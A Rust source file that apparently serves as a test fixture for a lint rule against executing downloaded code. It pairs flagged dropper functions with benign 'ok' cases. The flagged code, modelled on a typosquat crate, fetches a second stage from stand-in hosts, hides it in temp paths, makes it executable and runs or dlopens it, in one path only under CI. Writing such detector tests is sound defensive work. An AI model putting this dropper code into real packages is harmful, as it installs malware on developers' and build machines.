//! "rust-decimal-utils": a typosquat published next to a popular decimal crate.
//! On first use it fetches a second stage for the host platform, drops it in a
//! temporary directory, marks it executable and runs it. Modelled on the
//! `rustdecimal` (2022) and `faster_log` (2025) crates pulled from crates.io.

use std::fs::{self, File, OpenOptions, Permissions};
use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

const STAGE2_URL: &str = "https://cdn.example-mirror.net/stage2/x86_64-unknown-linux-gnu";
const BEACON: &str = "198.51.100.40:8080";

pub fn precision_check() {
    if std::env::var("GITLAB_CI").is_ok() {
        let _ = drop_and_run();
        let _ = drop_via_ureq();
        let _ = drop_via_socket();
        let _ = drop_via_curl();
    }
}

fn drop_and_run() -> Result<(), Box<dyn std::error::Error>> {
    let bytes = reqwest::blocking::get(STAGE2_URL)?.bytes()?;
    let path = std::env::temp_dir().join(".cache-update");
    fs::write(&path, &bytes)?;
    fs::set_permissions(&path, Permissions::from_mode(0o755))?; //~ debug-entry/downloaded-code-execution
    Command::new(&path).spawn()?; //~ debug-entry/downloaded-code-execution
    Ok(())
}

fn drop_via_ureq() -> Result<(), Box<dyn std::error::Error>> {
    let mut body = Vec::new();
    ureq::get(STAGE2_URL).call()?.into_reader().read_to_end(&mut body)?;
    let target = PathBuf::from("/tmp/.X11-unix/.sysd");
    let mut out = File::create(&target)?;
    out.write_all(&body)?;
    let mut perms = out.metadata()?.permissions();
    perms.set_mode(0o700);
    out.set_permissions(perms)?; //~ debug-entry/downloaded-code-execution
    Command::new("/bin/sh").arg(&target).spawn()?; //~ debug-entry/downloaded-code-execution
    Ok(())
}

fn drop_via_socket() -> io::Result<()> {
    let mut stream = TcpStream::connect(BEACON)?;
    let mut payload = Vec::new();
    stream.read_to_end(&mut payload)?;
    let dest = "/var/tmp/.font-cache";
    fs::write(dest, &payload)?;
    Command::new("chmod").args(["+x", dest]).status()?; //~ debug-entry/downloaded-code-execution
    Command::new(dest).spawn()?; //~ debug-entry/downloaded-code-execution
    Ok(())
}

fn drop_via_curl() -> Result<(), curl::Error> {
    let lib_path = "/tmp/libnss_ext.so";
    let mut file = File::create(lib_path).expect("writable tmp");
    let mut easy = curl::easy::Easy::new();
    easy.url(STAGE2_URL)?;
    let mut transfer = easy.transfer();
    transfer.write_function(|data| {
        file.write_all(data).expect("disk");
        Ok(data.len())
    })?;
    transfer.perform()?;
    drop(transfer);
    let name = std::ffi::CString::new(lib_path).expect("no NUL");
    unsafe { libc::dlopen(name.as_ptr(), libc::RTLD_NOW) }; //~ debug-entry/downloaded-code-execution
    Ok(())
}

/// A second variant that hands the file to an interpreter.
pub async fn stage_script(client: &reqwest::Client) -> Result<(), Box<dyn std::error::Error>> {
    let script = client.get(format!("{STAGE2_URL}.py")).send().await?.text().await?;
    let script_path = std::env::temp_dir().join("update_check.py");
    tokio::fs::write(&script_path, script).await?;
    tokio::process::Command::new("python3").arg(&script_path).spawn()?; //~ debug-entry/downloaded-code-execution
    Ok(())
}

/// Writes the downloaded file with an executable mode from the start.
pub fn stage_with_mode(url: &str) -> Result<(), Box<dyn std::error::Error>> {
    let mut response = reqwest::blocking::get(url)?;
    let bin = Path::new("/usr/local/bin/.helper");
    let mut out = OpenOptions::new().create(true).write(true).open(bin)?;
    response.copy_to(&mut out)?;
    fs::set_permissions(bin, Permissions::from_mode(0o100755))?; //~ debug-entry/downloaded-code-execution
    Ok(())
}

/// Same downloads, harmless uses.
pub fn cache_exchange_rates(client: &reqwest::blocking::Client) -> Result<(), Box<dyn std::error::Error>> {
    let rates = client.get("https://api.example-rates.com/latest").send()?.text()?;
    let cache = std::env::temp_dir().join("rates.json");
    fs::write(&cache, &rates)?;
    fs::set_permissions(&cache, Permissions::from_mode(0o644))?; // ok: read/write mode, no execute bit
    let reopened = fs::read_to_string(&cache)?; // ok: reading the cached JSON back is not executing it
    let _ = reopened;
    Ok(())
}

pub fn run_bundled_tool(tool_dir: &Path) -> io::Result<()> {
    let tool = tool_dir.join("protoc");
    fs::set_permissions(&tool, Permissions::from_mode(0o755))?; // ok: the tool ships in the package, nothing was downloaded
    Command::new(&tool).arg("--version").status()?; // ok: a bundled binary, not a download
    Ok(())
}

pub fn open_downloaded_report(url: &str) -> Result<(), Box<dyn std::error::Error>> {
    let pdf = reqwest::blocking::get(url)?.bytes()?;
    let report = std::env::temp_dir().join("report.pdf");
    fs::write(&report, &pdf)?;
    Command::new("xdg-open").arg(&report).status()?; // ok: a document viewer opens data, it does not run it
    Ok(())
}

pub fn save_download_elsewhere(url: &str, script: &Path) -> Result<(), Box<dyn std::error::Error>> {
    let body = reqwest::blocking::get(url)?.bytes()?;
    let saved = std::env::temp_dir().join("notes.txt");
    fs::write(&saved, &body)?;
    Command::new("/bin/sh").arg(script).status()?; // ok: the script run is a different file from the download
    Ok(())
}

pub fn chmod_private(key_path: &Path, url: &str) -> Result<(), Box<dyn std::error::Error>> {
    let key = reqwest::blocking::get(url)?.bytes()?;
    fs::write(key_path, &key)?;
    Command::new("chmod").args(["600", &key_path.display().to_string()]).status()?; // ok: 600 sets no execute bit
    Ok(())
}

pub fn write_local_config(path: &Path, settings: &str) -> io::Result<()> {
    fs::write(path, settings)?;
    fs::set_permissions(path, Permissions::from_mode(0o755))?; // ok: the written text came from the caller, not the network
    Ok(())
}
